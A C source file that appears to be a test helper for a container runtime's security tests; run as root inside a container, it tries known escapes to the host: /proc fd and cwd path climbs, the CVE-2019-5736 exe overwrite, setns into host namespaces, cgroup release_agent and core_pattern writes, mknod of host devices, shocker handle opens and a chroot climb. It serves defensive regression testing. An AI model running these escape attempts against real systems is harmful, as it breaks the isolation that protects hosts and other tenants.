/*
 * nbx-escape: the attacker of the escape corpus (test/integration/security-*.test.ts).
 * It runs INSIDE a novabox server or `run` container, as the container's root, and tries
 * to reach the host. Built statically on the host at test time (cc -static; busybox has
 * no compiler) and put into the container by the tests: bound read-only into `run`
 * containers, copied into a server through `server exec -i`, or in an imported image.
 *
 *   nbx-escape probe MARKER SECONDS [STOPFILE]
 *       Loop until SECONDS pass (0: one pass) or STOPFILE exists: for every process in
 *       /proc but ourselves, try to reach the host's file /MARKER (MARKER is a path
 *       relative to the host's root, e.g. tmp/nbx-escape-marker-...) through
 *         its fds:  open("/proc/P/fd/N/../../(x24)MARKER"), and chdir into
 *                   /proc/P/fd/N then open the same climb relative to that cwd;
 *         its cwd:  /proc/P/cwd/../(x24)MARKER;   its root: /proc/P/root/MARKER;
 *       reading it and creating MARKER.w.<P>.<how> next to it; open /proc/P/exe for
 *       writing (CVE-2019-5736) now and, through a kept O_PATH fd, again after the
 *       process is gone; setns into /proc/P/ns/mnt when it is not our own mount namespace.
 *       A process that appears after the first pass is hammered for 4 ms (its low fds),
 *       and the next two pids are tried before they show in /proc: the window between
 *       a join and its execve is short. NBX_WORKERS=n probes with n processes;
 *       NBX_PAUSE_US=n sleeps n microseconds between loops. SIGTERM
 *       (a stop) ends the loop 300 ms later.
 *       Prints one line per success (READ, WROTE, EXEWRITE, SETNS) and per foreign
 *       binary or namespace seen (EXE, NSMNT), then "SUMMARY loops=N pids=M" (M: the
 *       processes that appeared after the first pass).
 *
 *   nbx-escape fds
 *       Our own open fds above 2: "FD n -> target", then "FDS n".
 *
 *   nbx-escape syscalls MARKER BLKMAJ BLKMIN
 *       One line per attempt, "name result", result "ok" or the errno's name:
 *       release_agent, core_pattern, sysrq-trigger, uevent_helper, mknod + open of a
 *       block and a char device, mount, unshare/clone of a user namespace, keyctl,
 *       add_key, bpf, name_to_handle_at / open_by_handle_at (shocker), a chroot climb.
 *       Nothing harmful is written when an open unexpectedly succeeds: the open is
 *       the finding.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdarg.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <linux/bpf.h>

#define CLIMB "../../../../../../../../../../../../../../../../../../../../../../../../"

static const char *marker;
static ino_t own_mntns;
static dev_t root_dev;
static char out[1 << 16];
static size_t outlen;

static void flush_out(void)
{
	size_t off = 0;

	while (off < outlen) {
		ssize_t n = write(1, out + off, outlen - off);
		if (n <= 0)
			break;
		off += (size_t)n;
	}
	outlen = 0;
}

/* One line, written at once (the stop race reads it after we were killed). */
static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(out + outlen, sizeof(out) - outlen - 1, fmt, ap);
	va_end(ap);
	if (n > 0)
		outlen += (size_t)n < sizeof(out) - outlen - 1 ? (size_t)n : sizeof(out) - outlen - 1;
	out[outlen++] = '\n';
	flush_out();
}

static const char *ename(int e)
{
	switch (e) {
	case 0: return "ok";
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case EACCES: return "EACCES";
	case EROFS: return "EROFS";
	case ETXTBSY: return "ETXTBSY";
	case EINVAL: return "EINVAL";
	case ENOSYS: return "ENOSYS";
	case EEXIST: return "EEXIST";
	case ENOTDIR: return "ENOTDIR";
	case EBADF: return "EBADF";
	case ESTALE: return "ESTALE";
	case EOPNOTSUPP: return "EOPNOTSUPP";
	case EBUSY: return "EBUSY";
	case ENODEV: return "ENODEV";
	case ENXIO: return "ENXIO";
	case EISDIR: return "EISDIR";
	case ESRCH: return "ESRCH";
	case ELOOP: return "ELOOP";
	default: {
		static char buf[32];
		snprintf(buf, sizeof(buf), "E%d", e);
		return buf;
	}
	}
}

/* ---- probe ---------------------------------------------------------------- */

/* Findings already printed: "kind pid how" strings, so a loop prints each once. */
#define MAX_SEEN 4096
static char *seen[MAX_SEEN];
static int nseen;

static double now(void);

static int first_time(const char *key)
{
	for (int i = 0; i < nseen; i++)
		if (strcmp(seen[i], key) == 0)
			return 0;
	if (nseen < MAX_SEEN)
		seen[nseen++] = strdup(key);
	return 1;
}

static void report(const char *kind, int pid, const char *how, const char *detail)
{
	char key[512];

	snprintf(key, sizeof(key), "%s %d %s", kind, pid, how);
	if (first_time(key))
		say("%s %d %s %s", kind, pid, how, detail ? detail : "");
}

/*
 * Try to read the marker at prefix + MARKER (relative to dirfd) and to create a
 * file beside it. Returns 1 when the marker was read (prefix reached the host's /). A
 * create where the marker is not (the container's own /tmp) is undone and not reported.
 */
static int try_marker(int dirfd, const char *prefix, int pid, const char *how)
{
	char path[1024], buf[256], clean[256];
	int fd, found = 0;

	snprintf(path, sizeof(path), "%s%s", prefix, marker);
	fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
	if (fd >= 0) {
		ssize_t n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n < 0)
			n = 0;
		buf[n] = 0;
		for (ssize_t i = 0; i <= n; i++)
			clean[i] = (buf[i] == '\n' || buf[i] == ' ') ? '_' : buf[i];
		report("READ", pid, how, clean);
		found = 1;
	}
	snprintf(path, sizeof(path), "%s%s.w.%d.%s", prefix, marker, pid, how);
	for (char *p = path + strlen(prefix) + strlen(marker); *p; p++)
		if (*p == '/')
			*p = '_';
	fd = openat(dirfd, path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC | O_NOCTTY | O_NONBLOCK, 0644);
	if (fd >= 0) {
		if (write(fd, "escaped\n", 8) < 0) {
			/* the create is the finding */
		}
		close(fd);
		if (found)
			report("WROTE", pid, how, path);
		else
			unlinkat(dirfd, path, 0);
	}
	return found;
}

/*
 * The executable behind an fd of /proc/P/exe (or a kept O_PATH fd): is it a file of
 * the container (on its root's device, the same inode at the same path here)? If not
 * (a host binary, even one bind-mounted in, or a memfd), say so once and try to
 * open it for writing: that must fail for a host file (CVE-2019-5736); a memfd may open,
 * but a write of its own first byte back must fail (sealed).
 */
static int try_exe(const char *path, int pid, const char *when)
{
	char link[512], how[300];
	struct stat st, here;
	int fd;

	ssize_t ln = readlink(path, link, sizeof(link) - 1);
	link[ln > 0 ? ln : 0] = 0;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	/* ours: a file of the container's root file system (its overlay's device), at its path */
	if (fstat(fd, &st) != 0 || (st.st_dev == root_dev && stat(link, &here) == 0 && here.st_dev == st.st_dev && here.st_ino == st.st_ino)) {
		close(fd);
		return 0;
	}
	close(fd);
	snprintf(how, sizeof(how), "%lu:%lu", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	report("EXE", pid, how, link);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		report("EXEWERR", pid, ename(errno), link);
		return 1;
	}
	if (strncmp(link, "/memfd:", 7) == 0) {
		unsigned char b;
		int rfd = open(path, O_RDONLY | O_CLOEXEC);
		if (rfd >= 0 && pread(rfd, &b, 1, 0) == 1 && pwrite(fd, &b, 1, 0) == 1)
			report("EXEWRITE", pid, when, link);
		else
			report("EXESEALED", pid, ename(errno), link);
		if (rfd >= 0)
			close(rfd);
	} else {
		report("EXEWRITE", pid, when, link); /* opened a host binary for writing: nothing written */
	}
	close(fd);
	return 1;
}

#define MAX_KEPT 256
static int kept_exe[MAX_KEPT];
static int kept_pid[MAX_KEPT];
static int nkept;

/*
 * A process that just appeared: the window between its join and its execve is short, so
 * first climb from its low fds in a tight loop for a few milliseconds.
 */
static void hammer_pid(int pid)
{
	char path[1024], how[32];
	double until = now() + 0.004;

	do {
		for (int n = 3; n <= 6; n++) {
			snprintf(path, sizeof(path), "/proc/%d/fd/%d/" CLIMB, pid, n);
			snprintf(how, sizeof(how), "fd/%d", n);
			if (try_marker(AT_FDCWD, path, pid, how))
				return;
		}
	} while (now() < until);
}

static void probe_pid(int pid)
{
	char path[1024], how[300];
	DIR *d;
	struct dirent *e;
	int fd;
	struct stat st;

	/* its low fds first, without listing them: the window may be short */
	for (int n = 3; n <= 6; n++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d/" CLIMB, pid, n);
		snprintf(how, sizeof(how), "fd/%d", n);
		if (try_marker(AT_FDCWD, path, pid, how))
			break;
	}
	/* its fds: climb from each, by path and by chdir */
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	if (d) {
		while ((e = readdir(d)) != NULL) {
			if (e->d_name[0] == '.')
				continue;
			snprintf(path, sizeof(path), "/proc/%d/fd/%s/" CLIMB, pid, e->d_name);
			snprintf(how, sizeof(how), "fd/%s", e->d_name);
			try_marker(AT_FDCWD, path, pid, how);
			snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
			if (chdir(path) == 0) {
				snprintf(how, sizeof(how), "chdir-fd/%s", e->d_name);
				try_marker(AT_FDCWD, CLIMB, pid, how);
				if (chdir("/") != 0)
					_exit(2);
			}
		}
		closedir(d);
	}
	/* its cwd and root */
	snprintf(path, sizeof(path), "/proc/%d/cwd/" CLIMB, pid);
	try_marker(AT_FDCWD, path, pid, "cwd");
	snprintf(path, sizeof(path), "/proc/%d/root/", pid);
	try_marker(AT_FDCWD, path, pid, "root");
	snprintf(path, sizeof(path), "/proc/%d/root/" CLIMB, pid);
	try_marker(AT_FDCWD, path, pid, "root-climb");

	/* its executable: open for writing now; keep an O_PATH fd to retry once it is gone */
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (try_exe(path, pid, "now") && nkept < MAX_KEPT && (nkept == 0 || kept_pid[nkept - 1] != pid)) {
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0) {
			kept_pid[nkept] = pid;
			kept_exe[nkept++] = fd;
		}
	}

	/* its mount namespace */
	snprintf(path, sizeof(path), "/proc/%d/ns/mnt", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		if (fstat(fd, &st) == 0 && st.st_ino != own_mntns) {
			snprintf(how, sizeof(how), "%lu", (unsigned long)st.st_ino);
			report("NSMNT", pid, how, "");
			if (setns(fd, CLONE_NEWNS) == 0) {
				report("SETNS", pid, "mnt", "");
				try_marker(AT_FDCWD, "/", pid, "setns");
				_exit(3); /* our root is the host's now: stop here */
			}
		}
		close(fd);
	}
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static volatile sig_atomic_t terminated;
static void on_term(int sig)
{
	(void)sig;
	terminated = 1;
}

#define MAX_PIDS 65536
static unsigned char pid_seen[MAX_PIDS / 8];
static unsigned char pid_static[MAX_PIDS / 8]; /* there at the first loop: probed every 50th */

static int cmd_probe(int argc, char **argv)
{
	double end;
	const char *stopfile = argc > 4 ? argv[4] : NULL;
	long loops = 0, pids = 0;
	int self = getpid();
	struct stat st;

	if (argc < 4)
		return 2;
	marker = argv[2];
	end = now() + atof(argv[3]);
	/* NBX_WORKERS=n: n processes probe at once (one per CPU races best); the first waits for the rest */
	int workers = getenv("NBX_WORKERS") ? atoi(getenv("NBX_WORKERS")) : 1;
	/* NBX_PAUSE_US=n: sleep n microseconds between loops (a prober that must not starve an emulated CPU) */
	long pause_us = getenv("NBX_PAUSE_US") ? atol(getenv("NBX_PAUSE_US")) : 0;
	pid_t kids[16];
	int nkids = 0;
	for (int w = 1; w < workers && w < 16; w++) {
		pid_t k = fork();
		if (k == 0) {
			nkids = 0;
			break;
		}
		if (k > 0)
			kids[nkids++] = k;
	}
	self = getpid();
	signal(SIGTERM, on_term);
	if (stat("/proc/self/ns/mnt", &st) == 0)
		own_mntns = st.st_ino;
	if (stat("/", &st) == 0)
		root_dev = st.st_dev;
	int maxpid = 0;
	for (;;) {
		/*
		 * Pids in a pid namespace are handed out in order: climb from the low fds of the
		 * next few before they even show in a listing of /proc.
		 */
		for (int k = 0; k < 8 && maxpid > 0; k++) {
			for (int next = maxpid + 1; next <= maxpid + 2; next++) {
				char path[1024], how[32];
				for (int n = 3; n <= 4; n++) {
					snprintf(path, sizeof(path), "/proc/%d/fd/%d", next, n);
					if (access(path, F_OK) != 0)
						break; /* no such process (yet), or no such fd */
					snprintf(path, sizeof(path), "/proc/%d/fd/%d/" CLIMB, next, n);
					snprintf(how, sizeof(how), "fd/%d", n);
					try_marker(AT_FDCWD, path, next, how);
				}
			}
		}
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (!d)
			return 2;
		while ((e = readdir(d)) != NULL) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == self)
				continue;
			if (pid > maxpid)
				maxpid = pid;
			if (pid < MAX_PIDS && !(pid_seen[pid / 8] & (1 << (pid % 8)))) {
				pid_seen[pid / 8] |= (unsigned char)(1 << (pid % 8));
				if (loops == 0)
					pid_static[pid / 8] |= (unsigned char)(1 << (pid % 8));
				else {
					pids++;
					hammer_pid(pid);
				}
			}
			if (pid < MAX_PIDS && (pid_static[pid / 8] & (1 << (pid % 8))) && loops % 50 != 0)
				continue;
			probe_pid(pid);
		}
		closedir(d);
		loops++;
		if (terminated == 1) {
			terminated = 2;
			end = now() + 0.3; /* a stop: keep watching it a little */
		}
		if (now() >= end || (stopfile && access(stopfile, F_OK) == 0))
			break;
		if (pause_us > 0)
			usleep((useconds_t)pause_us);
	}
	/* CVE-2019-5736's second step: the process is gone or exec'd; reopen its old binary */
	for (int i = 0; i < nkept; i++) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/self/fd/%d", kept_exe[i]);
		try_exe(path, kept_pid[i], "late");
		close(kept_exe[i]);
	}
	for (int i = 0; i < nkids; i++)
		waitpid(kids[i], NULL, 0);
	say("SUMMARY loops=%ld pids=%ld", loops, pids); /* pids: new ones, appeared after the first loop */
	return 0;
}

/* ---- fds ------------------------------------------------------------------ */

static int cmd_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	int n = 0;

	if (!d)
		return 2;
	while ((e = readdir(d)) != NULL) {
		char path[300], link[512];
		int fd = atoi(e->d_name);
		if (e->d_name[0] == '.' || fd <= 2 || fd == dirfd(d))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%s", e->d_name);
		ssize_t ln = readlink(path, link, sizeof(link) - 1);
		link[ln > 0 ? ln : 0] = 0;
		say("FD %d -> %s", fd, link);
		n++;
	}
	closedir(d);
	say("FDS %d", n);
	return 0;
}

/* ---- syscalls ------------------------------------------------------------- */

static void result(const char *name, int rc)
{
	say("%s %s", name, rc < 0 ? ename(errno) : "ok");
}

/* open for writing; when it unexpectedly opens, say so and write nothing */
static void try_open_write(const char *name, const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC | O_NOCTTY);
	if (fd >= 0)
		close(fd);
	result(name, fd);
}

static long sys_bpf(int cmd, union bpf_attr *attr)
{
	return syscall(__NR_bpf, cmd, attr, sizeof(*attr));
}

static int cmd_syscalls(int argc, char **argv)
{
	char path[512];
	int rc;

	if (argc < 5)
		return 2;
	marker = argv[2];
	unsigned blk_major = (unsigned)atoi(argv[3]), blk_minor = (unsigned)atoi(argv[4]);

	/* cgroup v1 release_agent (CVE-2022-0492): in any hierarchy we can see, and in a fresh mount */
	DIR *d = opendir("/sys/fs/cgroup");
	int agents = 0;
	if (d) {
		struct dirent *e;
		while ((e = readdir(d)) != NULL) {
			if (e->d_name[0] == '.' || e->d_type != DT_DIR) /* v1 hierarchies (pure v2: files) */
				continue;
			snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/release_agent", e->d_name);
			int fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0 || errno != ENOENT) {
				say("release_agent:%s %s", e->d_name, fd >= 0 ? "ok" : ename(errno));
				agents++;
			}
			if (fd >= 0)
				close(fd);
		}
		closedir(d);
	}
	try_open_write("release_agent:/sys/fs/cgroup", "/sys/fs/cgroup/release_agent");
	mkdir("/tmp/nbx-cg", 0755);
	result("mount-cgroup-v1", mount("cgroup", "/tmp/nbx-cg", "cgroup", 0, "rdma"));
	result("mount-cgroup-v1-memory", mount("cgroup", "/tmp/nbx-cg", "cgroup", 0, "memory"));
	rmdir("/tmp/nbx-cg");

	try_open_write("core_pattern", "/proc/sys/kernel/core_pattern");
	try_open_write("sysrq-trigger", "/proc/sysrq-trigger");
	try_open_write("uevent_helper", "/sys/kernel/uevent_helper");
	try_open_write("modprobe", "/proc/sys/kernel/modprobe");

	/* pid 1's binary (novabox-init): open it for writing; if that opens, write its own first byte back */
	{
		const char *paths[] = { "/proc/1/exe", "/dev/.novabox-init" };
		for (int i = 0; i < 2; i++) {
			int fd = open(paths[i], O_WRONLY | O_CLOEXEC);
			int err = errno;
			if (fd >= 0) {
				unsigned char b;
				int rfd = open(paths[i], O_RDONLY | O_CLOEXEC);
				err = 0;
				if (rfd < 0 || pread(rfd, &b, 1, 0) != 1 || pwrite(fd, &b, 1, 0) != 1)
					err = errno ? errno : EIO;
				if (rfd >= 0)
					close(rfd);
				close(fd);
			}
			say("init-binary-write:%s %s", paths[i], ename(err));
		}
	}

	/* mknod of the host's disk, and of /dev/mem; then open each */
	unlink("/dev/nbx-blk");
	rc = mknod("/dev/nbx-blk", S_IFBLK | 0600, makedev(blk_major, blk_minor));
	result("mknod-blk", rc);
	if (rc == 0) {
		int fd = open("/dev/nbx-blk", O_RDONLY | O_CLOEXEC);
		if (fd >= 0)
			close(fd);
		result("open-blk", fd);
		unlink("/dev/nbx-blk");
	}
	unlink("/dev/nbx-mem");
	rc = mknod("/dev/nbx-mem", S_IFCHR | 0600, makedev(1, 1));
	result("mknod-mem", rc);
	if (rc == 0) {
		int fd = open("/dev/nbx-mem", O_RDONLY | O_CLOEXEC);
		if (fd >= 0)
			close(fd);
		result("open-mem", fd);
		unlink("/dev/nbx-mem");
	}

	/* mount */
	mkdir("/tmp/nbx-mnt", 0755);
	result("mount-tmpfs", mount("none", "/tmp/nbx-mnt", "tmpfs", 0, NULL));
	result("mount-bind", mount("/", "/tmp/nbx-mnt", NULL, MS_BIND, NULL));
	result("mount-proc", mount("proc", "/tmp/nbx-mnt", "proc", 0, NULL));
	result("remount-proc-sys", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
	result("umount-proc-sys", umount2("/proc/sys", MNT_DETACH));
	rmdir("/tmp/nbx-mnt");

	/* user namespaces: unshare, clone, and unshare of the others without one */
	result("unshare-user", unshare(CLONE_NEWUSER));
	result("unshare-user-mnt", unshare(CLONE_NEWUSER | CLONE_NEWNS));
	result("unshare-mnt", unshare(CLONE_NEWNS));
	result("unshare-cgroup", unshare(CLONE_NEWCGROUP));
	{
		long pid = syscall(SYS_clone, (unsigned long)(CLONE_NEWUSER | SIGCHLD), NULL, NULL, NULL, 0);
		if (pid == 0)
			_exit(0);
		if (pid > 0)
			waitpid((pid_t)pid, NULL, 0);
		result("clone-user", pid < 0 ? -1 : 0);
	}

	/* the keyring */
	result("keyctl", (int)syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "nbx-escape"));
	result("add_key", (int)syscall(SYS_add_key, "user", "nbx-escape", "x", 1, -3 /* KEY_SPEC_SESSION_KEYRING */));

	/* bpf */
	{
		union bpf_attr a;
		memset(&a, 0, sizeof(a));
		a.map_type = BPF_MAP_TYPE_ARRAY;
		a.key_size = 4;
		a.value_size = 4;
		a.max_entries = 1;
		long fd = sys_bpf(BPF_MAP_CREATE, &a);
		if (fd >= 0)
			close((int)fd);
		result("bpf-map-create", fd < 0 ? -1 : 0);
		struct bpf_insn prog[2] = {
			{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0 },
			{ .code = BPF_JMP | BPF_EXIT },
		};
		memset(&a, 0, sizeof(a));
		a.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
		a.insns = (unsigned long)prog;
		a.insn_cnt = 2;
		a.license = (unsigned long)"GPL";
		fd = sys_bpf(BPF_PROG_LOAD, &a);
		if (fd >= 0)
			close((int)fd);
		result("bpf-prog-load", fd < 0 ? -1 : 0);
	}

	/* shocker: a handle to inode 2 (the root of an ext4 file system), opened by handle */
	{
		struct {
			struct file_handle h;
			unsigned char bytes[128];
		} fh;
		int mount_id;
		memset(&fh, 0, sizeof(fh));
		fh.h.handle_bytes = 128;
		result("name_to_handle_at", name_to_handle_at(AT_FDCWD, "/etc", &fh.h, &mount_id, 0));
		memset(&fh, 0, sizeof(fh));
		fh.h.handle_bytes = 8;
		fh.h.handle_type = 1; /* FILEID_INO32_GEN */
		fh.bytes[0] = 2;
		int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY);
		if (fd >= 0)
			close(fd);
		result("open_by_handle_at", fd);
		close(mfd);
	}

	/* the classic chroot climb: chroot into a subdirectory, climb out of it, chroot "." */
	{
		pid_t pid = fork();
		if (pid == 0) {
			mkdir("/tmp/nbx-chroot", 0755);
			if (chroot("/tmp/nbx-chroot") != 0)
				_exit(10);
			if (chdir(CLIMB) != 0 || chroot(".") != 0)
				_exit(11);
			snprintf(path, sizeof(path), "/%s", marker);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			_exit(fd >= 0 ? 0 : errno == ENOENT ? 12 : 13);
		}
		int st = 0;
		waitpid(pid, &st, 0);
		rmdir("/tmp/nbx-chroot");
		int code = WIFEXITED(st) ? WEXITSTATUS(st) : 99;
		say("chroot-climb %s", code == 0 ? "ok" : code == 12 ? "ENOENT" : code == 10 ? "chroot-failed" : "other");
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 2 && strcmp(argv[1], "probe") == 0)
		return cmd_probe(argc, argv);
	if (argc >= 2 && strcmp(argv[1], "fds") == 0)
		return cmd_fds();
	if (argc >= 2 && strcmp(argv[1], "syscalls") == 0)
		return cmd_syscalls(argc, argv);
	fprintf(stderr, "usage: nbx-escape probe MARKER SECONDS [STOPFILE] | fds | syscalls MARKER BLKMAJ BLKMIN\n");
	return 2;
}
